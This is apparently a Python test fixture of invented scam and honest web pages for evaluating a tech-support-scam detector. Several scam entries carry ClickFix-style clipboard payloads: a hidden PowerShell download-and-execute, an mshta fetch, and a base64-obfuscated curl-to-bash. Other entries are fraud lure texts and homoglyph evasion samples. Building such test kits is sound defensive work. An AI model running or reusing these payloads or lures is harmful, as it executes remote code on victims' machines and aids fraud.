# Review 45 blind kit, part A: English + western European languages. All text invented by the reviewer.
# P(id, expected, url, family, lang, title, body, clip=None, beh=None)
PAGES = []
def P(*a, **k): PAGES.append((a, k))

# ---------------- English ----------------
P('en_s_bank', 'scam', 'https://secure-alerts-wellsbank.web.app/', 'callus-bank', 'en', 'Account Suspended - Fraud Department',
  "Your online banking access has been temporarily restricted.\nWe detected an unusual login from Lagos, Nigeria and a pending transfer of $1,480.00.\nTo stop the transfer and restore your account call the Fraud Department immediately at +1 (555) 010-0142.\nDo not log in again or close this window until you speak to an agent. Reference ID: WF-88213")
P('en_s_apple', 'scam', 'https://icloud-lockalert.netlify.app/', 'callus-apple', 'en', 'Apple Security Warning',
  "Your iPhone has been locked for security reasons.\nYour Apple ID was used to sign in to a device in another country. Your photos, contacts and payment cards may be exposed.\nCall Apple Support now toll free: 1-555-0143 to unlock your device.\nIf you restart your phone your iCloud data will be erased.")
P('en_s_iptv', 'scam', 'https://activate-primeflix-tv.com/', 'callus-iptv', 'en', 'Activate your TV subscription',
  "Your streaming account activation failed (code TV-551).\nYour TV is not registered. To activate your subscription on this device speak with our activation desk.\nCall 24/7: +1 555 0144 - our technician will connect and finish the activation in 5 minutes.")
P('en_s_avrefund', 'scam', 'https://renewal-desk-5501.site/', 'callus-av', 'en', 'Invoice #NT-88421',
  "Thank you for renewing Norton 360 Deluxe. Your card has been charged $399.99 today for a 3 year plan.\nIf you did not authorise this payment, call our billing department within 24 hours to cancel and receive a full refund: +1 (555) 010-0145.\nAfter 24 hours the charge cannot be reversed.")
P('en_s_bsod', 'scam', 'https://sys-err-0142.pages.dev/', 'fakesys-bsod', 'en', 'CRITICAL_PROCESS_DIED',
  ":(\nYour PC ran into a problem and needs to restart.\nStop code: CRITICAL_PROCESS_DIED\nDo not turn off your computer. Your files are being deleted. Call technical support at +1-555-010-0146 to restore your system.", None, 'fullscreen')
P('en_s_update', 'scam', 'https://win-update-cdn.azurewebsites.net/', 'fakesys-update', 'en', 'Working on updates',
  "Working on updates 27% complete.\nDon't turn off your computer.\nUpdate failed: error 0x80070005. Your license could not be verified.\nPlease contact Windows Help Desk at 1-555-010-0147 to complete the installation.", None, 'fullscreen')
P('en_s_signin', 'scam', 'https://outlook-verify-mailbox.web.app/', 'fakesys-signin', 'en', 'Windows Security',
  "Windows Security\nSign in to your account\nYour computer has been blocked. Access to this PC is denied due to suspicious activity.\nEnter your Microsoft account password to unlock.\nUsername: ____ Password: ____\nTechnical support: +1 555 010 0148")
P('en_s_police', 'scam', 'https://fbi-cyber-division-case.com/', 'police-lock', 'en', 'FBI - Computer Locked',
  "ATTENTION! Your computer has been blocked by the Federal Bureau of Investigation.\nYou visited websites containing prohibited material. Article 2252 of the U.S. Code.\nTo unlock your computer you must pay a fine of $500 within 48 hours.\nCall the case officer at +1 (555) 010-0149 to pay the fine. Otherwise a criminal case will be opened.", None, 'fullscreen')
P('en_s_warrant', 'scam', 'https://irs-case-resolution.info/', 'debt-arrest', 'en', 'Final Notice',
  "FINAL NOTICE: A warrant has been issued for your arrest for unpaid federal taxes of $4,812.\nLocal officers will visit your address within 24 hours.\nTo cancel the warrant call the Legal Department now at +1 (555) 010-0150 and settle the balance today.")
P('en_s_cf1', 'scam', 'https://docs-preview-share.com/view', 'clickfix', 'en', 'Just a moment...',
  "Verify you are human\nVerification steps:\n1. Press Windows Button + R\n2. Press CTRL + V\n3. Press Enter\nRay ID: 8f21a0c3", "powershell -w hidden -c \"iwr https://cdn-verify-0142.top/a.ps1 -UseBasicParsing | iex\" # I am not a robot - reCAPTCHA Verification ID: 5501")
P('en_s_cf_terse', 'scam', 'https://meet-room-5501.com/', 'clickfix-terse', 'en', 'Error',
  "Win+R  Ctrl+V  Enter", "mshta https://files-0143.xyz/check.hta")
P('en_s_filefix', 'scam', 'https://hr-shared-drive.online/policy', 'filefix', 'en', 'Shared document',
  "To open the file, follow these steps:\n1. Copy the file path below\n2. Open File Explorer (Ctrl+L)\n3. Paste the path in the address bar and press Enter\nC:\\company\\internal-secure\\filedrive\\HRPolicy.docx",
  "powershell -c \"iwr https://docsync-0144.live/p.ps1|iex\"                                                                                          # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx")
P('en_s_cf_mac', 'scam', 'https://dmg-installer-5501.app/', 'clickfix', 'en', 'Install for macOS',
  "macOS users: the installer is blocked by Gatekeeper.\nOpen Terminal (Cmd+Space, type Terminal), paste the command and press Return to finish the installation.",
  "echo 'Y3VybCAtZnNTTCBodHRwOi8vNTU1MDEuZXhhbXBsZS9pbnN0YWxsLnNoIHwgYmFzaA==' | base64 -d | bash")
P('en_s_zw', 'scam', 'https://alert-0151.pages.dev/', 'evasion-zw', 'en', 'Security Alert',
  "Win\u200bdows Def\u200bender Al\u200bert: Your com\u200bputer is inf\u200bected with Tro\u200bjan Spy\u200bware.\nYour pass\u200bwords and bank det\u200bails are at risk.\nCall Mic\u200brosoft Sup\u200bport now: +1-555-010-0151 (Toll Free)", None, 'fullscreen')
P('en_s_homog', 'scam', 'https://supp0rt-desk-0152.com/', 'evasion-homoglyph', 'en', 'Micrоsоft Suppоrt',
  "Wіndоws Dеfеndеr: уоur PC іs іnfесtеd.\nСall Міcrоsоft Suppоrt: +1 555 010 0152 immediately. Do not shut down your computer.")
P('en_s_paypal', 'scam', 'https://paypal-resolution-center.help/', 'callus-paypal', 'en', 'PayPal - Payment Sent',
  "You sent a payment of $749.00 USD to CryptoMart Ltd.\nIf you did not make this payment, call PayPal Resolution Center at +1 (555) 010-0153 to cancel it. Payments not disputed within 12 hours are final.")
P('en_s_carrier', 'scam', 'https://verizon-acct-protect.com/', 'callus-carrier', 'en', 'Your line will be suspended',
  "Your mobile line has been flagged for a SIM swap request.\nIf this was not you, call our Account Protection team at 1-555-010-0154 right away to stop the transfer of your number.")
P('en_s_amazon', 'scam', 'https://amzn-order-cancel.store/', 'callus-amazon', 'en', 'Order Confirmation',
  "Your order #112-5501-0142 for an iPhone 15 Pro Max ($1,299.00) has been placed.\nDidn't order this? Call Amazon Customer Care at +1 555-010-0155 to cancel before shipping.")
# honest
P('en_h_repair', 'honest', 'https://www.pcfixbrighton-example.co.uk/', 'repair-shop', 'en', 'PC Fix Brighton - Virus removal',
  "Is your computer slow, infected or showing pop-ups?\nWe remove viruses and malware, recover lost files and fix Windows errors like the blue screen.\nBring it in or call us on 01632 960142. Open Mon-Sat 9-6.\nTip: if a web page tells you to call a number, it's a scam. Close the browser and call someone you trust.")
P('en_h_avvendor', 'honest', 'https://support.norton.com/sp/en/us/home/current/solutions/v123', 'av-vendor', 'en', 'Renew your Norton subscription',
  "Your subscription expires in 7 days. Turn on automatic renewal to stay protected.\nTo renew, sign in to your Norton account and select Renew. Need help? Call Member Services at 1-555-010-0160 (Mon-Fri).\nNorton will never call you unexpectedly to ask for remote access.")
P('en_h_itdesk', 'honest', 'https://it.university-example.edu/help/bluescreen', 'it-helpdesk', 'en', 'IT Service Desk - Blue screen errors',
  "If your university laptop shows a blue screen with a stop code, note the code and restart.\nIf it happens again, call the IT Service Desk at 555-0161 or open a ticket. We will never ask for your password.")
P('en_h_mdm', 'honest', 'https://mdm.acme-corp-example.com/lock', 'mdm-lock', 'en', 'This device is locked',
  "This device is locked by ACME Corp IT.\nThis device was reported lost. If you found it, please call ACME Security at +1 555 010 0162.\nDevice ID 44A1. Managed by ACME Corp.", None, 'fullscreen')
P('en_h_cardblock', 'honest', 'https://www.chase.com/personal/credit-cards/lost-stolen', 'bank-cardblock', 'en', 'Report a lost or stolen card',
  "Lost your card or think it was stolen? Lock it right away in the app, then call us at 1-555-010-0163, 24 hours a day.\nWe will cancel the card and send a new one. We will never ask you for your PIN or full password.")
P('en_h_news', 'honest', 'https://www.bbc.co.uk/news/technology-55010142', 'news-scam', 'en', 'Pensioner lost £12,000 to fake Microsoft alert',
  "A pop-up told her: 'Your computer is infected. Call Microsoft Support on 0800 555 0142 immediately. Do not shut down your PC.'\nShe called, and a man asked her to install remote software and log into her bank.\nPolice say Microsoft never puts phone numbers in error messages. If you see such a screen, close the browser and do not call.")
P('en_h_police', 'honest', 'https://www.actionfraud.police.uk/a-z-of-fraud/computer-software-service-fraud', 'police-warning', 'en', 'Computer software service fraud',
  "Fraudsters show fake warnings saying your computer is locked or infected and ask you to call a number.\nThey may claim to be from Microsoft, BT or your bank. Never give remote access. Report it to Action Fraud on 0300 123 2040.")
P('en_h_court', 'honest', 'https://www.nycourts.gov/courthelp/traffic/fines.shtml', 'court-fine', 'en', 'Pay a traffic fine',
  "You can pay your fine online, by mail or in person. If you do not pay by the due date, a late fee may be added and your license may be suspended.\nQuestions about your ticket? Call the court clerk at 555-0164.")
P('en_h_debtcoll', 'honest', 'https://www.midlandcredit-example.com/pay', 'debt-collector', 'en', 'Make a payment',
  "This communication is from a debt collector. You have an outstanding balance of $1,204.17 on account 5501.\nYou may pay online, set up a payment plan, or call us at 1-555-010-0165. You have the right to dispute this debt within 30 days.")
P('en_h_debtadv', 'honest', 'https://www.stepchange.org/debt-info/bailiffs.aspx', 'debt-advice', 'en', 'Bailiffs and arrest threats',
  "You cannot be arrested for ordinary debts. Scammers phone and say 'a warrant has been issued for your arrest, call this number to cancel it'.\nIf you get such a call, hang up. Free debt advice: 0800 555 0166.")
P('en_h_dev1', 'honest', 'https://rustup.rs/', 'devdocs-copy', 'en', 'rustup.rs - The Rust toolchain installer',
  "To install Rust, run the following in your terminal, then follow the on-screen instructions.\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\nCopy", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh")
P('en_h_dev2', 'honest', 'https://scoop.sh/', 'devdocs-copy', 'en', 'Scoop - A command-line installer for Windows',
  "Open a PowerShell terminal (version 5.1 or later) and from the PS C:\\> prompt, run:\nSet-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser\nInvoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression\nCopy", "Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression")
P('en_h_dev3', 'honest', 'https://chocolatey.org/install', 'devdocs-copy', 'en', 'Installing Chocolatey',
  "Run the following command in an administrative PowerShell:\n1. Press Windows key + X and choose Windows PowerShell (Admin)\n2. Paste the command and press Enter\nSet-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
  "Set-ExecutionPolicy Bypass -Scope Process -Force; [System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")
P('en_h_dev4', 'honest', 'https://learn.microsoft.com/en-us/windows/package-manager/winget/', 'devdocs-copy', 'en', 'Use WinGet to install and manage applications',
  "Press Win+R, type cmd and press Enter. Then paste:\nwinget install --id Microsoft.PowerShell --source winget\nCopy", "winget install --id Microsoft.PowerShell --source winget")
P('en_h_exam', 'honest', 'https://exam.proctor-example.com/session/5501', 'exam-fullscreen', 'en', 'Online exam - Do not leave this page',
  "Your exam is in progress. Leaving full screen will be recorded and reported to your instructor.\nTime remaining: 42:10. If you have technical problems call the exam support line at 555-0167.", None, 'fullscreen')
P('en_h_game', 'honest', 'https://www.retro-arcade-example.io/play/virus-panic', 'game', 'en', 'Virus Panic - play now',
  "VIRUS DETECTED! Your system is infected - just kidding, this is Virus Panic, an arcade game.\nDestroy the viruses before they reach the core. Press SPACE to start. High score: 55010.", None, 'fullscreen')
P('en_h_blog', 'honest', 'https://www.malwarebytes.com/blog/scams/tech-support-clickfix', 'news-scam', 'en', 'ClickFix: fake CAPTCHA asks you to run a command',
  "Attackers show a fake 'Verify you are human' box. Clicking it copies a command like powershell -w hidden -c \"iwr ... | iex\" and tells you to press Win+R, Ctrl+V and Enter.\nNever paste anything a website tells you to paste into the Run box.")
